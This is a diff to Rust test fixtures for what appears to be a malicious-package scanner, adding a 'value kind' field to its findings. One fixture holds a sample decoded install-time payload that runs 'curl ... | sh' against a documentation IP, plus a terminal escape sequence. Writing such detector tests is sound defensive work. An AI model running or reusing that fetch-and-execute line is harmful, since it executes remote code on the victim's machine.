@@ -217,6 +217,7 @@ pub(crate) mod fixtures {
             context: None,
             excerpt: None,
             decoded: None,
+            value_kind: crate::finding::ValueKind::Value,
         }
     }
 
@@ -232,6 +233,7 @@ pub(crate) mod fixtures {
         );
         exec.context = Some(ExecContext::Install);
         exec.excerpt = Some("exec(base64.b64decode(PAYLOAD))".to_owned());
+        exec.value_kind = crate::finding::ValueKind::Decoded;
         exec.decoded = Some(
             "import os\nos.system('curl -s http://203.0.113.7/x | sh')\t# \u{1b}[2J and a long tail that goes on and on past the width a terminal line can hold comfortably"
                 .to_owned(),
@@ -351,7 +353,10 @@ pub(crate) mod fixtures {
             Location::file("requests/__init__.py"),
             "installed file changed after install: requests/__init__.py",
         );
-        patched.decoded = Some("expected sha256=AAAA, found sha256=BBBB".to_owned());
+        patched.set_value(
+            crate::finding::ValueKind::Hashes,
+            Some("expected sha256=AAAA, found sha256=BBBB".to_owned()),
+        );
         let installed_findings = vec![patched];
         let site_packages = PathBuf::from("/venv/lib/python3.12/site-packages");
         ArtifactReport {
